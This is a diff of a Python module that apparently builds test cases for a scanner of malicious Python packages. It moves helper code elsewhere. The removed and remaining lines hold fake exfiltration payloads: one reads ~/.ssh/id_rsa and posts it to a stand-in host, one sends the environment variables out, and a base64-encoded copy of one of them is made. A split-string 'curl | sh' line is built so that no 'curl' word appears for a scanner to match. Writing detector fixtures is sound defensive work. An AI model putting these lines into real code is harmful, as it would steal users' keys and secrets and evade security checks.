@@ -12,17 +12,10 @@ Payloads print, or read a key file that does not exist on a test machine and pos
 
 from __future__ import annotations
 
-import base64
-import io
-import zipfile
-
 from techniques import Case
+from techniques.hidden_runners import B64, STEAL, _body
+from techniques.start_up import zipped
 
-STEAL = ("key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
-         "urllib.request.urlopen('https://k.x.invalid/u', data=key.encode())\n")
-PAYLOAD = ("import os, urllib.request\n"
-           "urllib.request.urlopen('https://h.x.invalid/e', data=repr(dict(os.environ)).encode())\n")
-B64 = base64.b64encode(PAYLOAD.encode()).decode()
 SPLIT_RUN = "'c' + 'url -s https://r.x.invalid/i.sh | sh'"
 """A download piped to a shell, with no `curl ` word in the text."""
 HALF = "".join(chr(0x41 + i) for i in range(26)) + "".join(chr(0x61 + i) for i in range(26))
@@ -39,10 +32,6 @@ def math_bold(text: str) -> str:
     return "".join(chr(0x1D41A + ord(c) - 97) if "a" <= c <= "z" else c for c in text)
 
 
-def _body(text: str, indent: int) -> str:
-    return "".join(" " * indent + line + "\n" for line in text.splitlines())
-
-
 def _init(name: str, body: str) -> dict[str, str | bytes]:
     return {f"{name}/__init__.py": body}
 
@@ -50,14 +39,6 @@ def _init(name: str, body: str) -> dict[str, str | bytes]:
 def _wheel(technique: str, name: str, files: dict[str, str | bytes], verdict: str,
            rules: tuple[str, ...] = ()) -> Case:
     return Case(technique, name, files, verdict, rules, kind="wheel")
-
-
-def zipped(files: dict[str, str]) -> bytes:
-    buf = io.BytesIO()
-    with zipfile.ZipFile(buf, "w") as z:
-        for name, text in files.items():
-            z.writestr(name, text)
-    return buf.getvalue()
 
 
 STEALER_MODULE = "import os, urllib.request\n\n\ndef grab():\n" + _body(STEAL, 4)
